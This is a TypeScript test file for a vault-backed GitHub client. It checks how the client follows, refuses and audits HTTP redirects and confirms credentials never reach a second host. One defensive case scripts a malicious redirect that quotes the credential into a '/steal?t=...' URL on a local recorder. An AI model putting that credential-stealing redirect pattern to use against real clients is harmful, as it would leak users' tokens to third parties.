// Redirects followed the way a careful HTTP client does (issue 17, item 1), end to end through
// the generated GitHub client, the local vault and the GitHub stand-in (which validates every
// request against the document and checks the credential is exactly where the grant puts it), in
// both modes. The exchanges are written from GitHub's documentation: a renamed repository answers
// 301 with the new URL, a transferred one 307, archive downloads a 302 to codeload.github.com
// carrying its own signed token (test/fixtures/redirects/github.json). The second host here is a
// recorder on 127.0.0.2 (another URL host, outside the grant): it must never see any form of the
// credential.
import { readFileSync } from "node:fs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { AlterValueError, AlterVault, ApprovalRequiredError, ProviderAPIError } from "alter-gen/runtime";
import { createGithubClient } from "alter-gen/generated/github";
import { approve, readAudit, type AuditRow } from "../support/vault-admin.js";
import { startPeers, type Peers } from "../runtime/support/peers.js";
import { startDownloadHost, type DownloadHost } from "../support/download-host.js";
import { CANARY_CREDENTIALS, carried, findLeak, type CanaryCredential } from "../support/canary-forms.js";
import type { ScriptedResponse } from "../../standins/index.js";

const MODES = ["retrieve", "proxy"] as const;

interface Exchange {
  operationId: string;
  request: { method: string; path: string; body?: unknown };
  response: { status: number; headers: Record<string, string>; body?: unknown };
  then: { method: string; path?: string; url?: string };
}
const FIXTURE = JSON.parse(readFileSync(new URL("../fixtures/redirects/github.json", import.meta.url), "utf8")) as { exchanges: Record<string, Exchange> };

/** A fixture exchange's answer with `{api}` and `{download}` pointed at this test's hosts. */
function scripted(name: string, hosts: { api: string; download: string }): ScriptedResponse & { then: Exchange["then"] } {
  const fill = (v: unknown) => JSON.parse(JSON.stringify(v).replaceAll("{api}", hosts.api).replaceAll("{download}", hosts.download)) as never;
  const e = FIXTURE.exchanges[name]!;
  return { status: e.response.status, headers: fill(e.response.headers), ...(e.response.body ? { body: fill(e.response.body) } : {}), then: e.then };
}
const TOKEN = "ghp_CANARYredirects0123456789abcdef";
const TARBALL = new Uint8Array(Buffer.from("\x1f\x8b\x08\x00tarball bytes \xff\x00\x01"));

let p: Peers;
let dl: DownloadHost;
let vault: AlterVault;
let grant: string;

beforeAll(async () => {
  [p, dl] = await Promise.all([startPeers("github"), startDownloadHost()]);
  grant = await p.grant(TOKEN);
  vault = new AlterVault({ apiKey: p.apiKey, baseUrl: p.vault.url, retry: false });
});
afterAll(async () => {
  await vault?.close();
  await Promise.allSettled([p?.close(), dl?.close()]);
});

const github = (mode: (typeof MODES)[number], extra: { redirect?: "follow" | "manual" | "error"; maxRedirects?: number } = {}) =>
  createGithubClient(vault, { baseUrl: p.standin.url, mode, ...extra });

/** Runs `work` and returns the stand-in's requests and the audit rows it made. */
async function observe<T>(work: () => Promise<T>): Promise<{ result: T | undefined; error: unknown; sent: typeof p.standin.requests; rows: AuditRow[] }> {
  const from = p.standin.requests.length;
  const audited = (await readAudit({ dataDir: p.dataDir })).length;
  let result: T | undefined;
  let error: unknown;
  try {
    result = await work();
  } catch (e) {
    error = e;
  }
  const rows = (await readAudit({ dataDir: p.dataDir })).slice(audited).filter((r) => r.action === "credential.retrieve" || r.action === "proxy.call");
  return { result, error, sent: p.standin.requests.slice(from), rows };
}

const standinHost = () => new URL(p.standin.url).host;

describe("a redirect on the provider's own host is followed with the credential", () => {
  it.each(MODES)("%s mode: 301 for a renamed repository: the GET goes on to the new name, and the audit names the hop", async (mode) => {
    const { then, ...answer } = scripted("renamed-repository", { api: p.standin.url, download: dl.origin });
    p.standin.script("repos/get", answer);
    const { result, sent, rows } = await observe(() => github(mode).repos.get(grant, { owner: "octo", repo: "hello" }));
    expect(sent[1]).toMatchObject(then);
    expect(result).toMatchObject({ full_name: expect.any(String) });
    // Both requests carried the grant's credential (the stand-in answers 401 otherwise).
    expect(sent.map((r) => [r.method, r.path, r.status])).toEqual([
      ["GET", "/repos/octo/hello", 301],
      ["GET", "/repos/octo/hello-renamed", 200],
    ]);
    const hops = [{ status: 301, host: standinHost() }];
    if (mode === "retrieve") {
      // The credential is asked for again for the hop: the vault checks its host and audits it.
      expect(rows.map((r) => [r.action, new URL(r.url!).pathname, r.details?.redirects])).toEqual([
        ["credential.retrieve", "/repos/octo/hello", undefined],
        ["credential.retrieve", "/repos/octo/hello-renamed", hops],
      ]);
    } else {
      expect(rows.map((r) => [r.action, r.status, r.details?.redirects])).toEqual([["proxy.call", 200, hops]]);
    }
  });

  it.each(MODES)("%s mode: 307 (a relative Location) keeps the POST and its body", async (mode) => {
    const { then, ...answer } = scripted("transferred-repository-write", { api: p.standin.url, download: dl.origin });
    p.standin.script("issues/create", answer);
    const { sent } = await observe(() => github(mode).issues.create(grant, { owner: "octo", repo: "hello", body: { title: "Found a bug" } }));
    expect(sent.map((r) => [r.method, r.path, r.status, r.headers["content-type"], r.rawBody])).toEqual([
      ["POST", "/repos/octo/hello/issues", 307, "application/json", '{"title":"Found a bug"}'],
      ["POST", "/repos/octo/moved/issues", 201, "application/json", '{"title":"Found a bug"}'],
    ]);
    expect(sent[1]).toMatchObject(then);
  });

  it.each(MODES)("%s mode: 303 turns the POST into a GET without body or body headers", async (mode) => {
    p.standin.script("issues/create", { status: 303, headers: { location: `${p.standin.url}/repos/octo/hello/issues/7` } });
    const { sent, result } = await observe(() => github(mode).issues.create(grant, { owner: "octo", repo: "hello", body: { title: "Found a bug" } }));
    expect(sent.map((r) => [r.method, r.path, r.status, r.headers["content-type"], r.headers["content-length"], r.rawBody])).toEqual([
      ["POST", "/repos/octo/hello/issues", 303, "application/json", "23", '{"title":"Found a bug"}'],
      ["GET", "/repos/octo/hello/issues/7", 200, undefined, undefined, ""],
    ]);
    expect(sent[1]!.operationId).toBe("issues/get");
    expect(result).toMatchObject({ number: expect.any(Number) });
  });
});

describe("the archive redirect to another host", () => {
  it.each(MODES)("%s mode: downloadTarballArchive follows the 302 to the download host and returns its bytes; the audit names the hop", async (mode) => {
    dl.answer(() => ({ status: 200, headers: { "content-type": "application/x-gzip" }, body: TARBALL }));
    const { then, ...answer } = scripted("archive-download", { api: p.standin.url, download: dl.origin });
    p.standin.script("repos/download-tarball-archive", answer);
    const got = dl.received.length;
    const { result, sent, rows } = await observe(() => github(mode).repos.downloadTarballArchive(grant, { owner: "octo", repo: "hello", ref: "main" }));
    expect(Buffer.from(result!).equals(Buffer.from(TARBALL))).toBe(true);
    expect(sent.map((r) => [r.method, r.path, r.status])).toEqual([["GET", "/repos/octo/hello/tarball/main", 302]]);
    const there = dl.received.slice(got);
    expect(there.map((r) => ({ method: r.method, url: r.url }))).toEqual([then]);
    expect(there[0]!.headers.authorization).toBeUndefined();
    expect(JSON.stringify(there)).not.toContain("CANARY");
    if (mode === "retrieve") {
      // The hop needed no credential, so the vault was not asked again.
      expect(rows.map((r) => [r.action, new URL(r.url!).pathname])).toEqual([["credential.retrieve", "/repos/octo/hello/tarball/main"]]);
    } else {
      expect(rows.map((r) => [r.action, r.status, r.details?.redirects])).toEqual([["proxy.call", 200, [{ status: 302, host: dl.host }]]]);
    }
  });
  it.each(MODES)("%s mode: a 401 from the download host (an expired signed URL) is the answer: no fresh credential is asked for, nothing is sent again", async (mode) => {
    dl.answer(() => ({ status: 401, headers: { "content-type": "application/json" }, body: '{"message":"token expired"}' }));
    const { then: _then, ...answer } = scripted("archive-download", { api: p.standin.url, download: dl.origin });
    p.standin.script("repos/download-tarball-archive", answer);
    const got = dl.received.length;
    const { error, sent, rows } = await observe(() => github(mode).repos.downloadTarballArchive(grant, { owner: "octo", repo: "hello", ref: "main" }));
    expect(error).toMatchObject({ status: 401, code: "provider_error" });
    expect(sent).toHaveLength(1);
    expect(dl.received.length - got).toBe(1);
    expect(rows).toHaveLength(1);
  });
});

describe("redirects that are not followed", () => {
  it.each(MODES)("%s mode: a redirect loop ends after maxRedirects with too_many_redirects", async (mode) => {
    const self = { status: 301, headers: { location: `${p.standin.url}/repos/octo/loop` } };
    p.standin.script("repos/get", ...Array.from({ length: 6 }, () => self));
    const { error, sent, rows } = await observe(() => github(mode).repos.get(grant, { owner: "octo", repo: "loop" }));
    expect(sent).toHaveLength(6); // the first request and 5 hops
    expect(error).toBeInstanceOf(ProviderAPIError);
    expect(error).toMatchObject({ code: "too_many_redirects", status: 301 });
    expect((error as Error).message).toContain("over maxRedirects (5)");
    const hop = { status: 301, host: standinHost() };
    if (mode === "proxy") {
      expect(rows.map((r) => r.details)).toEqual([{ redirects: [hop, hop, hop, hop, hop], redirectRefused: "too_many_redirects" }]);
    } else {
      // One retrieval per request that carried the credential, each naming the hops before it.
      expect(rows.map((r) => (r.details?.redirects as unknown[] | undefined)?.length ?? 0)).toEqual([0, 1, 2, 3, 4, 5]);
    }
  });

  it.each(MODES)("%s mode: maxRedirects 1 stops at the second redirect", async (mode) => {
    const self = { status: 302, headers: { location: `${p.standin.url}/repos/octo/loop` } };
    p.standin.script("repos/get", self, self);
    const { error, sent } = await observe(() => github(mode, { maxRedirects: 1 }).repos.get(grant, { owner: "octo", repo: "loop" }));
    expect(sent).toHaveLength(2);
    expect(error).toMatchObject({ code: "too_many_redirects", status: 302 });
  });

  it.each(MODES.flatMap((mode) => [
    [mode, "manual", "provider_error"],
    [mode, "error", "redirect_not_followed"],
  ] as const))("%s mode: redirect %j hands the 301 back as a ProviderAPIError (%s) with its Location", async (mode, redirect, code) => {
    const location = `${p.standin.url}/repos/octo/hello-renamed`;
    p.standin.script("repos/get", { status: 301, headers: { location } });
    const { error, sent } = await observe(() => github(mode, { redirect }).repos.get(grant, { owner: "octo", repo: "hello" }));
    expect(sent).toHaveLength(1);
    expect(error).toBeInstanceOf(ProviderAPIError);
    expect(error).toMatchObject({ code, status: 301, headers: { location } });
  });

  it.each(MODES.flatMap((mode) => [
    [mode, "a non-http scheme", "ftp://files.example.test/archive.tar.gz", /uses the ftp scheme; only http\(s\) is followed/],
    [mode, "plain http to a host that is not this machine", "http://codeload.example.test/archive.tar.gz", /codeload\.example\.test would be reached over plain http/],
  ] as const))("%s mode: %s is refused with insecure_redirect and nothing is sent there", async (mode, _name, location, message) => {
    p.standin.script("repos/download-tarball-archive", { status: 302, headers: { location } });
    const got = dl.received.length;
    const { error, sent } = await observe(() => github(mode).repos.downloadTarballArchive(grant, { owner: "octo", repo: "hello", ref: "main" }));
    expect(sent).toHaveLength(1);
    expect(error).toBeInstanceOf(ProviderAPIError);
    expect(error).toMatchObject({ code: "insecure_redirect", status: 302 });
    expect((error as Error).message).toMatch(message);
    expect(dl.received.length).toBe(got);
  });
});

describe("an approved call", () => {
  it.each([
    ["the default policy follows the 301", {}, [301, 200], "200"],
    ['redirect: "manual" hands the 301 back', { redirect: "manual" as const }, [301], "301 provider_error"],
    ["maxRedirects: 0 fails on the 301", { maxRedirects: 0 }, [301], "301 too_many_redirects"],
  ])("runs with the redirect policy it was asked with: %s", async (_name, extra, statuses, status) => {
    const gated = await p.grant(TOKEN, { policy: { requireApproval: true } });
    const asked = await github("proxy", extra).repos.get(gated, { owner: "octo", repo: "hello" }).catch((e: unknown) => e);
    expect(asked).toBeInstanceOf(ApprovalRequiredError);
    const { then: _then, ...answer } = scripted("renamed-repository", { api: p.standin.url, download: dl.origin });
    p.standin.script("repos/get", answer);
    const { approvalId } = asked as ApprovalRequiredError;
    const { sent } = await observe(() => approve({ dataDir: p.dataDir, approvalId: approvalId! }));
    expect(sent.map((r) => r.status)).toEqual(statuses);
    const outcome = await vault.awaitApproval(approvalId!, { timeoutMs: 10_000, pollIntervalMs: 100 }).then(
      () => "200",
      (e: unknown) => `${(e as ProviderAPIError).status} ${(e as ProviderAPIError).code}`,
    );
    expect(outcome).toBe(status);
  });
});

describe("the redirect options", () => {
  it.each(MODES.flatMap((mode) => [
    [mode, "maxRedirects 21 in the call's options", {}, { maxRedirects: 21 }, "repos/get: maxRedirects must be a whole number from 0 to 20 (in the call's options)"],
    [mode, "redirect \"always\" in the client's defaults", { redirect: "always" }, {}, 'repos/get: redirect must be "follow", "manual" or "error" (in the client\'s defaults)'],
  ] as const))("%s mode: %s is refused before anything is sent", async (mode, _name, defaults, options, message) => {
    const client = createGithubClient(vault, { baseUrl: p.standin.url, mode, ...(defaults as object) });
    const { error, sent } = await observe(() => client.repos.get(grant, { owner: "octo", repo: "hello" }, options as object));
    expect(error).toBeInstanceOf(AlterValueError);
    expect((error as Error).message).toBe(message);
    expect(sent).toEqual([]);
  });
});

// Every kind of injection: the credential reaches the provider's host and nowhere else, even when
// the provider's redirect quotes it into the next URL (a redirect that tries to move it).
describe.each(CANARY_CREDENTIALS)("a $name credential is never sent to another host", (cred: CanaryCredential) => {
  let peers: Peers;
  let other: DownloadHost;
  let client: AlterVault;
  let g: string;
  beforeAll(async () => {
    [peers, other] = await Promise.all([startPeers("github", { catalog: { injection: cred.injection } }), startDownloadHost()]);
    g = await peers.grant(cred.secret.value, cred.secret.type === "token" ? {} : { type: cred.secret.type });
    client = new AlterVault({ apiKey: peers.apiKey, baseUrl: peers.vault.url, retry: false });
    other.answer(() => ({ status: 200, body: TARBALL }));
  });
  afterAll(async () => {
    await client?.close();
    await Promise.allSettled([peers?.close(), other?.close()]);
  });

  it.each(MODES.flatMap((mode) => [
    [mode, "the archive redirect with its own signed token", (_req: unknown) => `${other.origin}/archive.tar.gz?token=SIGNEDcodeload42`],
    [mode, "a redirect that quotes the credential into the other host's URL", (req: Parameters<typeof carried>[1]) => {
      const { secret, headerValue } = carried(cred, req);
      return `${other.origin}/steal?t=${encodeURIComponent(secret)}&raw=${secret}&h=${encodeURIComponent(headerValue)}&access_token=${encodeURIComponent(secret)}`;
    }],
  ] as const))("%s mode: %s", async (mode, _name, location) => {
    const from = peers.standin.requests.length;
    const got = other.received.length;
    peers.standin.script("repos/download-tarball-archive", { status: 302, respond: (req) => ({ headers: { location: location(req) } }) });
    const data = await createGithubClient(client, { baseUrl: peers.standin.url, mode }).repos.downloadTarballArchive(g, { owner: "octo", repo: "hello", ref: "main" });
    expect(Buffer.from(data).equals(Buffer.from(TARBALL))).toBe(true);
    const sent = peers.standin.requests.slice(from);
    // The provider got the credential in its place (else 401, and nothing would be followed).
    expect(sent.map((r) => [r.path, r.status, r.problems.length])).toEqual([["/repos/octo/hello/tarball/main", 302, 0]]);
    const there = other.received.slice(got);
    expect(there).toHaveLength(1);
    expect(there[0]!.headers.authorization).toBeUndefined();
    expect(there[0]!.headers.cookie).toBeUndefined();
    expect(findLeak(cred, JSON.stringify(there), carried(cred, sent[0]!).headerValue)).toBeUndefined();
    // What the provider quoted did arrive, as the scrubbed text: the redirect really was followed.
    expect(there[0]!.url).toMatch(location === undefined || there[0]!.url.startsWith("/steal") ? /t=.*REDACTED/ : /^\/archive\.tar\.gz\?token=SIGNEDcodeload42$/);
  });
});
